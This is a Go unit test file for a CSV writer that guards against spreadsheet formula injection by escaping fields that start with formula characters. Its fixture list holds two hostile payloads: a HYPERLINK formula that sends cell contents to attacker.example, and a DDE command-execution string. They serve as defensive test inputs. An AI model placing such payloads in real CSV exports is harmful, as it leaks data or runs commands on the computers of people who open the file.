package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/scmodel/scmgo/internal/csvsafe"
)

// hostile are fields a spreadsheet would run, and fields the quoting must
// survive.
var hostile = []string{
	`=HYPERLINK("http://attacker.example/?x="&A1,"Open")`, `+SUM(1+1)*cmd|' /C calc'!A0`, "@SUM(1+1)", "=1+1", "-2+3",
	"\tx", "\rx", "-5", "a,b", "line\nbreak", `say "hi"`, "", "plain", "'=already",
}

func readAll(t *testing.T, data []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(data))
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	require.NoError(t, err, "%q", data)
	return records
}

// Every text field reads back, through an independent reader, as
// EscapeFormula has it; with KeepFormulas, as given.
func TestTextFieldsReadBackNeutralised(t *testing.T) {
	for _, keep := range []bool{false, true} {
		var buf bytes.Buffer
		w := csvsafe.NewWriter(&buf, csvsafe.Options{KeepFormulas: keep})
		require.NoError(t, w.WriteText(hostile...))
		require.NoError(t, w.WriteText(hostile...))
		require.NoError(t, w.Flush())
		records := readAll(t, buf.Bytes())
		require.Len(t, records, 2)
		for i, got := range records[0] {
			want := csvsafe.EscapeFormula(hostile[i])
			if keep {
				want = hostile[i]
			}
			assert.Equal(t, want, strings.ReplaceAll(got, "\r\n", "\n"), "field %d, keep %v", i, keep)
		}
	}
}

// EscapeFormula prefixes exactly the six characters OWASP and
// csv-stringify name, and nothing else.
func TestEscapeFormula(t *testing.T) {
	for in, want := range map[string]string{
		"=1+2": "'=1+2", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
		"": "", "1": "1", "a=b": "a=b", " =x": " =x", "'=x": "'=x", "\nx": "\nx",
	} {
		assert.Equal(t, want, csvsafe.EscapeFormula(in), "%q", in)
	}
}

// A number field is written as it is when it is a decimal number, a
// negative one included; anything else given as a number is a text
// field, neutralised.
func TestNumberFields(t *testing.T) {
	for in, want := range map[string]string{
		"-5": "-5", "0": "0", "12.5": "12.5", "-0.25": "-0.25", ".5": ".5", "5.": "5.", "-1e+21": "-1e+21", "1E-7": "1E-7",
		"+5": "'+5", "-": "'-", "-2+3": "'-2+3", "-1e": "'-1e", "-.": "'-.", "-Inf": "'-Inf", "-NaN": "'-NaN", "-0x1p-2": "'-0x1p-2",
		"=1": "'=1", "1,5": "1,5", "": "", "-1 ": "'-1 ",
	} {
		var buf bytes.Buffer
		w := csvsafe.NewWriter(&buf, csvsafe.Options{})
		w.Number(in)
		require.NoError(t, w.EndRecord())
		require.NoError(t, w.Flush())
		if in == "" {
			assert.Equal(t, "\r\n", buf.String())
			continue
		}
		assert.Equal(t, []string{want}, readAll(t, buf.Bytes())[0], "%q", in)
	}
}

// The dialect: fields quoted only when they must be, quotes doubled,
// records ended by CRLF.
func TestDialect(t *testing.T) {
	var buf bytes.Buffer
	w := csvsafe.NewWriter(&buf, csvsafe.Options{})
	w.Text("a")
	w.Number("-1")
	w.Text(`=say "x", y`)
	require.NoError(t, w.EndRecord())
	require.NoError(t, w.WriteText("", " b"))
	require.NoError(t, w.Flush())
	assert.Equal(t, "a,-1,\"'=say \"\"x\"\", y\"\r\n, b\r\n", buf.String())
}
